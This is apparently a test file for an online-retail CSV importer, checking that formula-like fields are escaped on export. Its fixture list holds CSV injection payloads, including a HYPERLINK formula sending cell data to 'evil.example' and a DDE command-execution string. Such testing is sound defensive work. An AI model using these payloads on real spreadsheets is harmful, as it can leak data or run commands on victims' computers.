// CSV that a spreadsheet runs: hostile fields in what is imported, out again by `yidan import staged`.
import assert from 'node:assert/strict'
import { after, before, it } from 'node:test'
import { parse } from 'csv-parse/sync'
import { importOnlineRetail } from '../../src/channels/online-retail/import-online-retail.ts'
import { listKeptLines } from '../../src/channels/online-retail/list-kept-lines.ts'
import { openIntake } from '../../src/shell/build-app.ts'
import { subscribers } from '../../src/shell/subscribers.ts'
import { createTestMerchant, type TestMerchant } from '../support/merchant.ts'

const formulas = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"look")',
  "=cmd|' /C calc'!A0",
  '+1+cmd',
  '-1+cmd',
  '@SUM(1+1)',
  '\t=1',
  '＝1+1',
  '=1\n+1',
]

let test: TestMerchant
before(async () => {
  test = await createTestMerchant({ subscribers })
})
after(() => test.close())

it('no field of a line that was kept aside is a formula, and numbers stay numbers', async () => {
  const header = 'Invoice,StockCode,Description,Quantity,InvoiceDate,Price,Customer ID,Country'
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`
  const lines = formulas.map(
    (text, n) => `C${500_000 + n},${quoted(text)},${quoted(text)},-${n + 1},2010-01-04 10:00:00,2.5,,${quoted(text)}`,
  )
  const file = `${header}\n${lines.join('\n')}\n`
  const chunks = (async function* () {
    yield Buffer.from(file)
  })()
  const report = await importOnlineRetail(
    {
      ...{
        intake: openIntake(test.runtime),
        merchantId: test.merchantId,
        actor: 'system:test',
        fileName: '=x.csv',
        subscribers,
      },
      ...{ onProgress: () => {}, signal: new AbortController().signal },
    },
    chunks,
  )
  assert.equal(report.staged.lines, formulas.length)
  const printed = (await Array.fromAsync(listKeptLines(test.runtime.database, test.merchantId))).join('')
  const rows = parse(printed) as string[][]
  assert.equal(rows.length, formulas.length + 1)
  const fields = rows.slice(1).flat()
  const formulaLike = fields.filter((field) => /^[=+\-@\t\r＝]/.test(field) && !/^[+-]?\d+(?:\.\d+)?$/.test(field))
  assert.deepEqual(formulaLike, [])
  assert.ok(fields.includes('-1'), 'a quantity is a number still')
  for (const text of formulas) assert.ok(fields.includes(`'${text}`), JSON.stringify(text))
})
